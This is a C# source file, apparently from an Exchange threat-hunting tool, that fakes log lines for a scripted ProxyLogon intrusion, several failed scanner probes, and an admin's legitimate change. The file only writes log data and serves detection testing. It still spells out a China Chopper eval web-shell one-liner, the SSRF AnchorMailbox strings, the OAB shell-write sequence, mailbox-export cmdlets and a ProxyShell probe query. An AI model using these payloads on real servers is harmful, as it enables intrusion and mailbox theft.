namespace Exhunt.Demo;

/// <summary>What the demo's intrusion did, for the manifest and the tests.</summary>
public sealed record DemoIntrusionFacts(
    string AttackerIp,
    DateTime FirstRequest,
    string ShellKapePath,
    string ShellUrl,
    string ShellParameter,
    DateTime ShellWritten,
    DateTime LsassDumped,
    string ExportedMailbox,
    IReadOnlyList<string> ProbeIps);

/// <summary>
/// The scripted part of the demo: one ProxyLogon intrusion following the published chain, a few failed scanner probes,
/// and an admin's legitimate virtual-directory changes (the near miss). Lines are built with the same formatters as
/// the benign traffic and handed to <see cref="DemoScript"/>.
///
/// The chain (facts §2.2 real rows, §2.3, §3.1-§3.4): CVE-2021-26855 SSRF from a Volexity-listed address through
/// <c>/ecp/y.js</c> with <c>ServerInfo~a]@EXCH01...:444/...#</c> AnchorMailbox and the <c>X-BEResource-Cookie</c>
/// routing hint — autodiscover (the admin's address), mapi/emsmdb (the admin's SID), <c>/ecp/proxyLogon.ecp</c>
/// (241), DDIService GetObject/SetObject on OABVirtualDirectory with a China Chopper ExternalUrl (CVE-2021-27065,
/// in the ECP server log), SetObject ResetOABVirtualDirectory (200) that dumps the OAB settings — shell included — to
/// <c>FrontEnd\HttpProxy\owa\auth\RedirSuiteServerProxy.aspx</c>; then POSTs to that shell with a Volexity user agent,
/// an LSASS dump in <c>C:\Windows\Temp</c>, a mailbox export through the Exchange cmdlets and a 7-Zip'd archive in
/// ProgramData.
/// </summary>
internal sealed class DemoIntrusion
{
    public const string AttackerIp = "104.140.114.110";
    public const string ShellName = "RedirSuiteServerProxy.aspx";
    private const string SsrfStem = "/ecp/y.js";
    private const string Python = "python-requests/2.25.1";
    private const string EwsClient = "ExchangeServicesClient/0.0.0.0";
    private const string ShellUa = "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)";
    private const string MachineAccount = DemoOrg.NetBios + "\\" + DemoOrg.Server + "$";

    private readonly DemoOrg _org;
    private readonly DemoOptions _options;
    private DemoScript _script;
    private readonly DemoRandom _r;
    private readonly ProxyRow _row = new();

    public DemoIntrusion(DemoOrg org, DemoOptions options, DemoScript script)
    {
        _org = org;
        _options = options;
        _script = script;
        _r = new DemoRandom(options.Seed, 7);
        ShellParameter = _r.Alnum(3).ToLowerInvariant() + _r.Next(100000, 999999);
    }

    public string ShellParameter { get; }

    /// <summary>The China Chopper one-liner planted in the OAB ExternalUrl (facts §3.4).</summary>
    public string ShellUrl => "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"" + ShellParameter + "\"],\"unsafe\");}</script>";

    public static string Canary(DemoRandom r) => r.Alnum(76).Replace('A', '-').Replace('z', '_') + ".";

    public DemoIntrusionFacts Script()
    {
        var days = Math.Max(1, _options.Days);
        var attackDay = _options.Start.Date.AddDays(Math.Min(1, days - 1));
        var lastDay = _options.Start.Date.AddDays(days - 1);
        var t0 = attackDay.AddHours(6).AddMinutes(47).AddSeconds(12).AddMilliseconds(_r.Next(0, 999));
        var admin = _org.Administrator;
        var canary = Canary(_r);
        var server = DemoOrg.ServerFqdn;

        AdminChanges(_options.Start.Date.AddHours(14).AddMinutes(5).AddSeconds(31));
        // Benign-only sets keep the admins' ordinary changes; the attack is still scripted (same random draws, same
        // facts) but into a script nobody writes.
        if (!_options.Intrusion) _script = new DemoScript();
        var probes = Probes(_options.Start.Date, attackDay, lastDay);

        // CVE-2021-26855: SSRF chain, all through the ECP front end.
        var t = t0;
        Ssrf(t, $"ServerInfo~a]@{server}:444/autodiscover/autodiscover.xml?#", "/autodiscover/autodiscover.xml", null, 200, Python);
        t = t.AddMilliseconds(1900 + _r.Next(0, 700));
        Ssrf(t, $"ServerInfo~a]@{server}:444/mapi/emsmdb/?#", "/mapi/emsmdb/", null, 200, Python);
        t = t.AddMilliseconds(1500 + _r.Next(0, 700));
        Ssrf(t, $"ServerInfo~a]@{server}:444/ecp/proxyLogon.ecp?#", "/ecp/proxyLogon.ecp", null, 241, Python);
        t = t.AddMilliseconds(2100 + _r.Next(0, 700));
        Ssrf(t, $"ServerInfo~a]@{server}:444/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#",
            "/ecp/DDI/DDIService.svc/GetObject", $"msExchEcpCanary={canary}&schema=OABVirtualDirectory", 200, EwsClient);
        t = t.AddMilliseconds(2400 + _r.Next(0, 700));
        // CVE-2021-27065: the shell goes into the OAB virtual directory's ExternalUrl.
        Ssrf(t, $"ServerInfo~a]@{server}:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#",
            "/ecp/DDI/DDIService.svc/SetObject", $"msExchEcpCanary={canary}&schema=OABVirtualDirectory", 200, EwsClient);
        var setUrl = $"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory&a=%5D:444/ecp/y.js";
        Ecp(t.AddMilliseconds(-40), ExchangeLogFormats.EcpCommand("Set-OabVirtualDirectory", ("ExternalUrl", ShellUrl), ("Identity", _org.OabVirtualDirectory.ToString())), setUrl, 1820);
        t = t.AddMilliseconds(2600 + _r.Next(0, 700));
        // The reset dumps the virtual directory's settings, shell and all, to a path the attacker chose.
        Ssrf(t, $"ServerInfo~a]@{server}:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory#",
            "/ecp/DDI/DDIService.svc/SetObject", $"msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory", 200, EwsClient);
        var resetUrl = $"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory&a=%5D:444/ecp/y.js";
        var shellWritten = t.AddMilliseconds(-900);
        Ecp(t.AddMilliseconds(-1200), ExchangeLogFormats.EcpCommand("Set-OabVirtualDirectory", ("ExternalUrl", null), ("Identity", _org.OabVirtualDirectory.ToString())), resetUrl, 410);
        Ecp(t.AddMilliseconds(-700), ExchangeLogFormats.EcpCommand("Remove-OABVirtualDirectory", ("Identity", _org.OabVirtualDirectory.ToString()), ("Force", "$true")), resetUrl, 380);
        Ecp(t.AddMilliseconds(-90), ExchangeLogFormats.EcpCommand("New-OABVirtualDirectory", ("WebSiteName", "Default Web Site"), ("Role", "ClientAccess"),
            ("Path", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB")), resetUrl, 560);

        // Web shell use: a first GET to see it is there, then command POSTs through the day.
        var shellUrlPath = "/owa/auth/" + ShellName;
        t = t.AddSeconds(47);
        ShellRequest(t, "GET", 200);
        var lsass = DateTime.MinValue;
        var minutes = new[] { 1, 2, 4, 9, 131, 133, 134, 176, 181, 183, 212, 214 };
        foreach (var m in minutes)
        {
            var at = t.AddMinutes(m).AddSeconds(_r.Next(0, 50)).AddMilliseconds(_r.Next(0, 999));
            ShellRequest(at, "POST", 200);
            if (m == 133) lsass = at.AddSeconds(9);
        }
        // Mailbox collection through the Exchange cmdlets the shell loaded (ran as SYSTEM in the OWA app pool).
        var victim = _org.Users[0];
        var exportAt = t.AddMinutes(181).AddSeconds(20);
        var rps = DemoPaths.RpsCmdlet(exportAt.Date);
        _script.Add(rps, DemoLogKind.RpsCmdlet, exportAt.AddSeconds(-30), LogSink.Render(s => ExchangeLogFormats.RpsCmdletLine(s, _r, exportAt.AddSeconds(-30),
            "NT AUTHORITY\\SYSTEM", "S-1-5-18", "", "New-ManagementRoleAssignment", "-Role \"Mailbox Import Export\" -User \"" + admin.Sam + "\"", 1)));
        _script.Add(rps, DemoLogKind.RpsCmdlet, exportAt, LogSink.Render(s => ExchangeLogFormats.RpsCmdletLine(s, _r, exportAt,
            "NT AUTHORITY\\SYSTEM", "S-1-5-18", "", "New-MailboxExportRequest",
            "-Mailbox \"" + victim.Smtp + "\" -FilePath \"\\\\" + DemoOrg.Server + "\\c$\\ProgramData\\pst\\" + victim.Sam + ".pst\"", 1)));

        return new DemoIntrusionFacts(AttackerIp, t0, DemoPaths.OwaAuth + "/" + ShellName, shellUrlPath, ShellParameter, shellWritten, lsass,
            victim.Smtp, probes);
    }

    /// <summary>One SSRF request: the HttpProxy\Ecp row, the front end's W3SVC1 line and the back end's W3SVC2 line.</summary>
    private void Ssrf(DateTime t, string anchor, string backEndStem, string? backEndQuery, int status, string ua)
    {
        var r = NewRow(t, "Ecp");
        r.UrlStem = SsrfStem;
        r.AuthenticationType = "FBA";
        r.AnchorMailbox = anchor;
        r.UserAgent = ua;
        r.ClientIp = AttackerIp;
        r.Status = status;
        r.BackEndStatus = status;
        r.Method = "POST";
        r.TargetServer = DemoOrg.ServerFqdn.ToLowerInvariant();
        r.RoutingHint = "X-BEResource-Cookie";
        r.RequestBytes = _r.Next(150, 900);
        r.ResponseBytes = status == 241 ? 0 : _r.Next(300, 4000);
        AddProxy(r);
        _script.Add(DemoPaths.Iis(1, t.Date), DemoLogKind.Iis, t, LogSink.Render(s => IisFormat.Line(s, t, DemoOrg.ServerIp, "POST", SsrfStem, null, r.RequestId,
            443, null, AttackerIp, ua, null, status, 0, 0, r.TotalMs + 1)));
        _script.Add(DemoPaths.Iis(2, t.Date), DemoLogKind.Iis, t, LogSink.Render(s => IisFormat.Line(s, t, DemoOrg.ServerIp, "POST", backEndStem, backEndQuery, r.RequestId,
            444, MachineAccount, DemoOrg.ServerIp, ua, null, status, 0, 0, r.BackendMs)));
    }

    private void ShellRequest(DateTime t, string method, int status)
    {
        var r = NewRow(t, "Owa");
        r.UrlStem = "/owa/auth/" + ShellName;
        r.Method = method;
        r.AuthenticationType = null;
        r.UserAgent = ShellUa;
        r.ClientIp = AttackerIp;
        r.Status = status;
        r.BackEndStatus = null;
        r.ProxyAction = null;
        r.TargetServer = null;
        r.RoutingType = null;
        r.RequestBytes = method == "POST" ? _r.Next(400, 6000) : 0;
        r.ResponseBytes = _r.Next(90, 20000);
        AddProxy(r);
        _script.Add(DemoPaths.Iis(1, t.Date), DemoLogKind.Iis, t, LogSink.Render(s => IisFormat.Line(s, t, DemoOrg.ServerIp, method, r.UrlStem, null, r.RequestId,
            443, null, AttackerIp, ShellUa, null, status, 0, 0, r.TotalMs + 1)));
    }

    private void Ecp(DateTime t, string command, string url, int ms) =>
        _script.Add(DemoPaths.EcpServer(t.Date), DemoLogKind.EcpServer, t,
            LogSink.Render(s => ExchangeLogFormats.EcpLine(s, t, ExchangeLogFormats.EcpEventData(ms, _r.NextGuid(), command, url, _r.NextGuid()))));

    private ProxyRow NewRow(DateTime t, string protocol)
    {
        var r = new ProxyRow
        {
            Time = t,
            RequestId = _r.NextGuid(),
            Protocol = protocol,
            RoutingType = "CrossRegion",
            TotalMs = _r.Next(30, 900),
        };
        r.BackendMs = Math.Max(1, r.TotalMs - _r.Next(2, 20));
        return r;
    }

    private void AddProxy(ProxyRow r) =>
        _script.Add(DemoPaths.HttpProxy(r.Protocol, new DateTime(r.Time.Year, r.Time.Month, r.Time.Day, r.Time.Hour, 0, 0, DateTimeKind.Utc)),
            DemoLogKind.HttpProxy, r.Time, LogSink.Render(s => HttpProxyFormat.Row(s, r)));

    /// <summary>Scanners that tried and failed: the nmap ProxyLogon check, an SSRF that never got past autodiscover, ProxyShell 401s.</summary>
    private List<string> Probes(DateTime firstDay, DateTime attackDay, DateTime lastDay)
    {
        // 1. nmap's http-vuln-cve2021-26855 check: GET /owa/auth/x.js with a localhost back-end cookie (facts §1.4).
        const string nmapIp = "161.35.45.41";
        const string nmapUa = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
        var t = firstDay.AddHours(3).AddMinutes(12).AddSeconds(_r.Next(0, 59)).AddMilliseconds(_r.Next(0, 999));
        var r = NewRow(t, "Owa");
        r.UrlStem = "/owa/auth/x.js";
        r.Method = "GET";
        r.AuthenticationType = "FBA";
        r.AnchorMailbox = "ServerInfo~localhost/ecp/default.flt?";
        r.UserAgent = nmapUa;
        r.ClientIp = nmapIp;
        r.Status = 500;
        r.BackEndStatus = 500;
        r.TargetServer = "localhost";
        r.TargetServerVersion = "0.00.0003.000";
        r.RoutingHint = "X-AnonResource-Backend-Cookie";
        r.ResponseBytes = 85;
        AddProxy(r);
        _script.Add(DemoPaths.Iis(1, t.Date), DemoLogKind.Iis, t, LogSink.Render(s => IisFormat.Line(s, t, DemoOrg.ServerIp, "GET", "/owa/auth/x.js", null, r.RequestId,
            443, null, nmapIp, nmapUa, null, 500, 0, 0, r.TotalMs)));

        // 2. An SSRF attempt that only ever reached autodiscover: it never found a valid mailbox (facts §1.1, 19778cd).
        const string ssrfIp = "45.77.121.7";
        t = attackDay.AddHours(22).AddMinutes(40).AddSeconds(_r.Next(0, 59));
        for (var i = 0; i < 3; i++)
        {
            var at = t.AddSeconds(i * 4).AddMilliseconds(_r.Next(0, 999));
            var q = NewRow(at, "Ecp");
            q.UrlStem = "/ecp/" + "abc"[i] + "Xz.js";
            q.Method = "POST";
            q.AuthenticationType = "FBA";
            q.AnchorMailbox = $"ServerInfo~a]@{DemoOrg.ServerFqdn}:444/autodiscover/autodiscover.xml?#";
            q.UserAgent = Python;
            q.ClientIp = ssrfIp;
            q.TargetServer = DemoOrg.ServerFqdn.ToLowerInvariant();
            q.RoutingHint = "X-BEResource-Cookie";
            q.ResponseBytes = 1204;
            AddProxy(q);
            _script.Add(DemoPaths.Iis(1, at.Date), DemoLogKind.Iis, at, LogSink.Render(s => IisFormat.Line(s, at, DemoOrg.ServerIp, "POST", q.UrlStem, null, q.RequestId,
                443, null, ssrfIp, Python, null, 200, 0, 0, q.TotalMs)));
        }

        // 3. ProxyShell probes the server answered with 401 (facts §2.5, §5.3).
        const string shellIp = "89.248.165.52";
        const string goUa = "Mozilla/5.0 zgrab/0.x";
        t = lastDay.AddHours(11).AddMinutes(20).AddSeconds(_r.Next(0, 59)).AddMilliseconds(_r.Next(0, 999));
        string[] queries =
        [
            "@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@foo.com",
            "@foo.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCE5lZ290aWF0ZUwFYWRtaW5VLFMtMS01LTIxLTM1NjcyOTgxNDgtMTE1OTIxMDAzMy0yMzI2MzExMDMyLTUwMEcBAAAABwAAAAxTLTEtNS0zMi01NDRFAAAAAA==&Email=autodiscover/autodiscover.json%3F@foo.com",
        ];
        foreach (var query in queries)
        {
            var at = t;
            t = t.AddSeconds(3);
            var q = NewRow(at, "Autodiscover");
            q.UrlStem = "/autodiscover/autodiscover.json";
            q.UrlQuery = "?" + query;
            q.Method = "GET";
            q.AuthenticationType = null;
            q.UserAgent = goUa;
            q.ClientIp = shellIp;
            q.Status = 401;
            q.BackEndStatus = null;
            q.ProxyAction = null;
            q.TargetServer = null;
            q.ErrorCode = "AuthenticationFailed";
            AddProxy(q);
            _script.Add(DemoPaths.Iis(1, at.Date), DemoLogKind.Iis, at, LogSink.Render(s => IisFormat.Line(s, at, DemoOrg.ServerIp, "GET", q.UrlStem, query, q.RequestId,
                443, null, shellIp, goUa, null, 401, 0, 0, q.TotalMs)));
        }
        return [nmapIp, ssrfIp, shellIp];
    }

    /// <summary>An admin points the OWA and OAB virtual directories at the public name, through ECP: legitimate, https, no script.</summary>
    private void AdminChanges(DateTime t)
    {
        var admin = _org.Admins[1];
        var canary = Canary(_r);
        foreach (var (schema, cmdlet, url) in new[]
        {
            ("OWAVirtualDirectory", "Set-OwaVirtualDirectory", "https://" + DemoOrg.PublicHost + "/owa"),
            ("OABVirtualDirectory", "Set-OabVirtualDirectory", "https://" + DemoOrg.PublicHost + "/OAB"),
        })
        {
            var r = NewRow(t, "Ecp");
            r.UrlStem = "/ecp/DDI/DDIService.svc/SetObject";
            r.UrlQuery = "?schema=" + schema + "&msExchEcpCanary=" + canary;
            r.AuthenticationType = "Forms";
            r.IsAuthenticated = true;
            r.User = admin.Windows;
            r.AnchorMailbox = "Sid~" + admin.Sid;
            r.UserAgent = admin.BrowserUa;
            r.ClientIp = admin.DesktopIp;
            r.Method = "POST";
            r.TargetServer = DemoOrg.ServerFqdn.ToLowerInvariant();
            r.RoutingHint = "WindowsIdentity";
            r.DatabaseGuid = admin.Database;
            r.UserObjectGuid = admin.ObjectGuid;
            AddProxy(r);
            var at = t;
            var identity = schema == "OABVirtualDirectory" ? _org.OabVirtualDirectory.ToString() : DemoOrg.Server + "\\owa (Default Web Site)";
            Ecp(at.AddMilliseconds(-30), ExchangeLogFormats.EcpCommand(cmdlet, ("ExternalUrl", url), ("Identity", identity)), r.UrlStem + r.UrlQuery, r.BackendMs);
            _script.Add(DemoPaths.Iis(1, at.Date), DemoLogKind.Iis, at, LogSink.Render(s => IisFormat.Line(s, at, DemoOrg.ServerIp, "POST", r.UrlStem, r.UrlQuery![1..], r.RequestId,
                443, admin.Windows, admin.DesktopIp, admin.BrowserUa, null, 200, 0, 0, r.TotalMs + 1)));
            _script.Add(DemoPaths.Iis(2, at.Date), DemoLogKind.Iis, at, LogSink.Render(s => IisFormat.Line(s, at, DemoOrg.ServerIp, "POST", r.UrlStem, r.UrlQuery![1..], r.RequestId,
                444, admin.Windows, DemoOrg.ServerIp, admin.BrowserUa, null, 200, 0, 0, r.BackendMs)));
            t = t.AddSeconds(38);
        }
    }
}
